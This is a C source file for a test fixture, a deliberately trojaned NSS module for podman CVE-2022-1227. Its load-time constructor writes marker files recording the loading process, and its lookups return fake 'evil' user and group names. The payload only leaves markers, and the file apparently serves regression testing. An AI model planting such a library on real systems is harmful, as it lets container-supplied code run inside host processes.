/* SPDX-License-Identifier: MIT */
/* libnss_evil.so.2: a trojaned NSS module (podman CVE-2022-1227). Whoever
 * loads it runs the constructor, which leaves a marker file naming the
 * loading process in every place a test can see: the directory bind-mounted
 * at the same path in the container and on the host, and /tmp. Its lookups
 * answer "evilname" for any uid, so output built from it is recognisable. */
#include <errno.h>
#include <fcntl.h>
#include <nss.h>
#include <pwd.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#ifndef NSHT_MARKER_DIR
#define NSHT_MARKER_DIR "/run/nsh-testbed/sec/nss-marker"
#endif

static void mark(const char *dir)
{
	char path[512], exe[512] = "?", line[1200];
	ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
	if (n > 0)
		exe[n] = 0;
	snprintf(path, sizeof path, "%s/nsh-nss-pwned-%d", dir, (int)getpid());
	int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (fd < 0)
		return;
	int len = snprintf(line, sizeof line, "libnss_evil loaded by pid %d uid %d exe %s\n",
			   (int)getpid(), (int)getuid(), exe);
	if (write(fd, line, (size_t)len) < 0) {
		/* nothing more to do */
	}
	close(fd);
}

__attribute__((constructor)) static void pwned(void)
{
	mark(NSHT_MARKER_DIR);
	mark("/tmp");
}

static enum nss_status fill(uid_t uid, struct passwd *pw, char *buf, size_t len, int *err)
{
	static const char name[] = "evilname";
	if (len < sizeof name + 2) {
		*err = ERANGE;
		return NSS_STATUS_TRYAGAIN;
	}
	memcpy(buf, name, sizeof name);
	buf[sizeof name] = 0;
	pw->pw_name = buf;
	pw->pw_passwd = buf + sizeof name;
	pw->pw_uid = uid;
	pw->pw_gid = uid;
	pw->pw_gecos = buf + sizeof name;
	pw->pw_dir = buf + sizeof name;
	pw->pw_shell = buf + sizeof name;
	return NSS_STATUS_SUCCESS;
}

enum nss_status _nss_evil_getpwuid_r(uid_t uid, struct passwd *pw, char *buf, size_t len, int *err)
{
	return fill(uid, pw, buf, len, err);
}

enum nss_status _nss_evil_getpwnam_r(const char *name, struct passwd *pw, char *buf, size_t len,
				     int *err)
{
	(void)name;
	return fill(4242, pw, buf, len, err);
}

enum nss_status _nss_evil_setpwent(void)
{
	return NSS_STATUS_SUCCESS;
}

enum nss_status _nss_evil_endpwent(void)
{
	return NSS_STATUS_SUCCESS;
}

enum nss_status _nss_evil_getpwent_r(struct passwd *pw, char *buf, size_t len, int *err)
{
	(void)pw;
	(void)buf;
	(void)len;
	*err = ENOENT;
	return NSS_STATUS_NOTFOUND;
}

/* group: evil as well, for -u USER:GROUP and anything naming groups. */
#include <grp.h>

static enum nss_status gfill(gid_t gid, struct group *gr, char *buf, size_t len, int *err)
{
	static const char name[] = "evilgroup";
	if (len < sizeof name + 2 * sizeof(char *) + 2) {
		*err = ERANGE;
		return NSS_STATUS_TRYAGAIN;
	}
	memcpy(buf, name, sizeof name);
	buf[sizeof name] = 0;
	char **mem =
		(char **)(void *)(buf + ((sizeof name + 1 + sizeof(char *) - 1) / sizeof(char *)) *
						sizeof(char *));
	if ((char *)(mem + 1) > buf + len) {
		*err = ERANGE;
		return NSS_STATUS_TRYAGAIN;
	}
	mem[0] = NULL;
	gr->gr_name = buf;
	gr->gr_passwd = buf + sizeof name;
	gr->gr_gid = gid;
	gr->gr_mem = mem;
	return NSS_STATUS_SUCCESS;
}

enum nss_status _nss_evil_getgrgid_r(gid_t gid, struct group *gr, char *buf, size_t len, int *err)
{
	return gfill(gid, gr, buf, len, err);
}

enum nss_status _nss_evil_getgrnam_r(const char *name, struct group *gr, char *buf, size_t len,
				     int *err)
{
	(void)name;
	return gfill(4242, gr, buf, len, err);
}
